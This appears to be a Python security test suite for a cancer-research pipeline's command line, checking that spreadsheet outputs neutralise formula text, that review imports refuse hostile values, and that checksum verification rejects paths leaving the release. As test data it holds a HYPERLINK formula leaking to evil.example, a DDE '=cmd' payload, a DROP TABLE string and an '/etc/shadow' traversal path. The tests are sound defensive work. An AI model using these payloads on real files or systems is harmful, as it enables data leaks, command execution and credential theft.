"""Security faults: formula text reaching spreadsheet-bound files, unchecked curated values, and a
checksum list that points outside its release.

Every check runs the real command line (``oncotriples run --offline`` and friends) in a scratch
directory; formula text enters through a raw-store snapshot of its own, as a fetched document would.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from pathlib import Path

from scripts.faults._util import cli, one_line_error

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

EVIL_DOC = (
    '# =HYPERLINK("http://evil.example/?leak="&A1,"open") demo\n\n'
    "## Abstract\n\n"
    "=cmd|' /C calc'!A0 the EGFR C797S mutation confers resistance to osimertinib in patients with NSCLC.\n\n"
    "@SUM(1+1) MET amplification confers resistance to osimertinib in EGFR-mutant NSCLC.\n"
)
"""A fetched document whose title and sentences start like spreadsheet formulas."""


def _run(tmp: Path, *, evil: bool = False) -> tuple[Path, Path, str]:
    """``run --offline`` under ``tmp`` (with the formula document as the only item when ``evil``); (work, releases, error)."""
    args = ["run", "--offline", "--ner-model", "none", "--workdir", str(tmp / "work"), "--releases-dir", str(tmp / "releases")]
    if evil:
        from pipeline.sources.rawstore import RawStore

        RawStore(tmp / "snapshot").put(
            EVIL_DOC.encode("utf-8"), source="demo", source_id="evil_formulas", url="demo://evil_formulas.md",
            content_type="text/markdown", format_hint="md", fetched_at="2026-11-01T00:00:00.000000Z",
        )
        config = tmp / "config.toml"
        config.write_text(f'[pipeline]\ndemo_dir = "{tmp / "snapshot"}"\n', encoding="utf-8")
        args += ["--config", str(config)]
    proc = cli(*args, cwd=tmp, timeout=300)
    error = "" if proc.returncode == 0 else f"run exited {proc.returncode}: {proc.stderr.strip().splitlines()[-1:] }"
    return tmp / "work", tmp / "releases", error


def _cells(path: Path) -> list[dict[str, str]]:
    delimiter = "\t" if path.suffix == ".tsv" else ","
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _formula_cells(path: Path) -> list[str]:
    """``column=value`` of every cell of a CSV/TSV that a spreadsheet would run as a formula."""
    return [f"{k}={v[:30]!r}" for row in _cells(path) for k, v in row.items() if isinstance(v, str) and v.startswith(FORMULA_START)]


def formula_evidence_in_release(tmp: Path) -> tuple[bool, str]:
    work, releases, error = _run(tmp, evil=True)
    if error:
        return False, error
    release = releases / "1.0.0"
    rows = _cells(release / "triples.csv")
    evidence = [r["evidence"] for r in rows]
    if not any(e.startswith("'=cmd") for e in evidence) or not any(e.startswith("'@SUM") for e in evidence):
        return False, f"formula evidence not found neutralized in triples.csv: {[e[:20] for e in evidence]}"
    bad = {name: _formula_cells(release / name) for name in ("triples.csv", "documents.csv", "trials.csv", "document_trials.csv", "civic_evidence.tsv")}
    bad = {k: v for k, v in bad.items() if v}
    if bad:
        return False, f"formula cells left as they are: {bad}"
    raw = [json.loads(x)["evidence"] for x in (release / "triples.jsonl").read_text(encoding="utf-8").splitlines() if x.strip()]
    if not any(e.startswith("=cmd") for e in raw):
        return False, "triples.jsonl lost the raw evidence text"
    return True, f"{len(rows)} triples; every CSV/TSV cell starting with = + - @ TAB CR carries a leading quote; JSONL keeps the raw text"


def formula_neutralized_in_review_export(tmp: Path) -> tuple[bool, str]:
    work, _, error = _run(tmp, evil=True)
    if error:
        return False, error
    out = tmp / "review.csv"
    proc = cli("review", "export", "--out", str(out), "--workdir", str(work), cwd=tmp)
    if proc.returncode != 0:
        return False, f"review export exited {proc.returncode}: {proc.stderr.strip()[-200:]}"
    bad = _formula_cells(out)
    if bad:
        return False, f"formula cells in the review export: {bad}"
    return True, f"{len(_cells(out))} rows exported, no cell starts like a formula"


def _export_and_fill(tmp: Path, work: Path, edits: dict[str, str]) -> tuple[Path, list[dict[str, str]]]:
    out = tmp / "review.csv"
    proc = cli("review", "export", "--out", str(out), "--workdir", str(work), cwd=tmp)
    if proc.returncode != 0:
        raise RuntimeError(f"review export exited {proc.returncode}: {proc.stderr.strip()[-200:]}")
    rows = _cells(out)
    rows[1].update(edits)
    return out, rows


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(("\ufeff" + buf.getvalue()).encode("utf-8"))


def _refused_on_import(tmp: Path, field: str, value: str) -> tuple[bool, str]:
    """An earlier good decision is recorded, then a file with ``field=value`` on row 3 must be refused whole."""
    work, _, error = _run(tmp)
    if error:
        return False, error
    out, rows = _export_and_fill(tmp, work, {})
    rows[0]["decision"] = "accept"
    _write(out, rows[:1])
    first = cli("review", "import", str(out), "--curator", "ann", "--workdir", str(work), cwd=tmp)
    if first.returncode != 0:
        return False, f"a good import failed: {first.stderr.strip()[-200:]}"
    rows[0]["decision"] = ""
    rows[1].update({"decision": "edit", field: value})
    rows[2]["decision"] = "accept"
    _write(out, rows)
    proc = cli("review", "import", str(out), "--curator", "ann", "--workdir", str(work), cwd=tmp)
    named = [x for x in proc.stderr.splitlines() if x.startswith("row 3") and f"{field} " in x]
    if not one_line_error(proc) or not named or str(out) not in proc.stderr:
        return False, f"import exited {proc.returncode}, error {proc.stderr.strip()[-300:]!r} (wanted a refusal naming {out.name}, row 3, {field})"
    check = tmp / "after.csv"
    cli("review", "export", "--out", str(check), "--workdir", str(work), cwd=tmp)
    last = {r["triple_id"]: r["last_decision"] for r in _cells(check)}
    if last.get(rows[0]["triple_id"]) != "accept" or any(last.get(r["triple_id"]) for r in rows[1:3]):
        return False, f"decisions after the refused import: {[last.get(r['triple_id']) for r in rows[:3]]} (wanted accept, -, -)"
    return True, f"refused: {named[0][:140]}; the earlier decision kept"


def formula_gene_refused_on_import(tmp: Path) -> tuple[bool, str]:
    return _refused_on_import(tmp, "gene", '=HYPERLINK("http://evil.example","x")')


def sql_like_gene_refused_on_import(tmp: Path) -> tuple[bool, str]:
    return _refused_on_import(tmp, "gene", "NOT A GENE; DROP TABLE")


def unknown_drug_refused_on_import(tmp: Path) -> tuple[bool, str]:
    return _refused_on_import(tmp, "drugs", "osimertinib; -notadrug")


def bad_alteration_refused_on_import(tmp: Path) -> tuple[bool, str]:
    return _refused_on_import(tmp, "alteration", "@SUM(A1:A9)")


def _verify_refuses(tmp: Path, tamper: str) -> tuple[bool, str]:
    _, releases, error = _run(tmp)
    if error:
        return False, error
    release = releases / "1.0.0"
    secret = tmp / "outside.txt"
    secret.write_text("a file outside the release\n", encoding="utf-8")
    digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    sums = release / "SHA256SUMS"
    text = sums.read_text(encoding="utf-8")
    if tamper == "dotdot":
        text += f"{digest}  {os.path.relpath(secret, release)}\n"
    elif tamper == "etc":
        text += f"{'0' * 64}  ../../../../etc/shadow\n"
    elif tamper == "absolute":
        text += f"{digest}  {secret}\n"
    else:  # a release file replaced by a symlink out of the folder, checksums updated to match
        (release / "triples.csv").unlink()
        (release / "triples.csv").symlink_to(secret)
        text = "".join(f"{digest}  triples.csv\n" if x.endswith("  triples.csv") else x + "\n" for x in text.splitlines())
        manifest = json.loads((release / "manifest.json").read_text(encoding="utf-8"))
        manifest["files"]["triples.csv"] = digest
        (release / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
        mdigest = hashlib.sha256((release / "manifest.json").read_bytes()).hexdigest()
        text = "".join(f"{mdigest}  manifest.json\n" if x.endswith("  manifest.json") else x + "\n" for x in text.splitlines())
    sums.write_text(text, encoding="utf-8")
    proc = cli("verify", "1.0.0", "--releases-dir", str(releases), cwd=tmp)
    lines = [x for x in proc.stderr.splitlines() if x.strip()]
    if not one_line_error(proc) or len(lines) != 1 or "outside the release" not in lines[0]:
        return False, f"verify exited {proc.returncode}: {proc.stdout.strip()[-120:]} {proc.stderr.strip()[-300:]!r}"
    return True, lines[0][:160]


def sums_dotdot_refused(tmp: Path) -> tuple[bool, str]:
    return _verify_refuses(tmp, "etc")


def sums_dotdot_matching_digest_refused(tmp: Path) -> tuple[bool, str]:
    return _verify_refuses(tmp, "dotdot")


def sums_absolute_refused(tmp: Path) -> tuple[bool, str]:
    return _verify_refuses(tmp, "absolute")


def symlink_escape_refused(tmp: Path) -> tuple[bool, str]:
    return _verify_refuses(tmp, "symlink")


CHECKS = [
    ("formula in evidence neutralized in triples.csv", formula_evidence_in_release),
    ("formula text neutralized in review export", formula_neutralized_in_review_export),
    ("formula gene refused on review import", formula_gene_refused_on_import),
    ("non-HGNC gene refused on review import", sql_like_gene_refused_on_import),
    ("unknown drug refused on review import", unknown_drug_refused_on_import),
    ("ungrammatical alteration refused on review import", bad_alteration_refused_on_import),
    ("SHA256SUMS path escape refused by verify", sums_dotdot_refused),
    ("SHA256SUMS ../ with matching digest refused by verify", sums_dotdot_matching_digest_refused),
    ("SHA256SUMS absolute path refused by verify", sums_absolute_refused),
    ("symlink out of the release refused by verify", symlink_escape_refused),
]
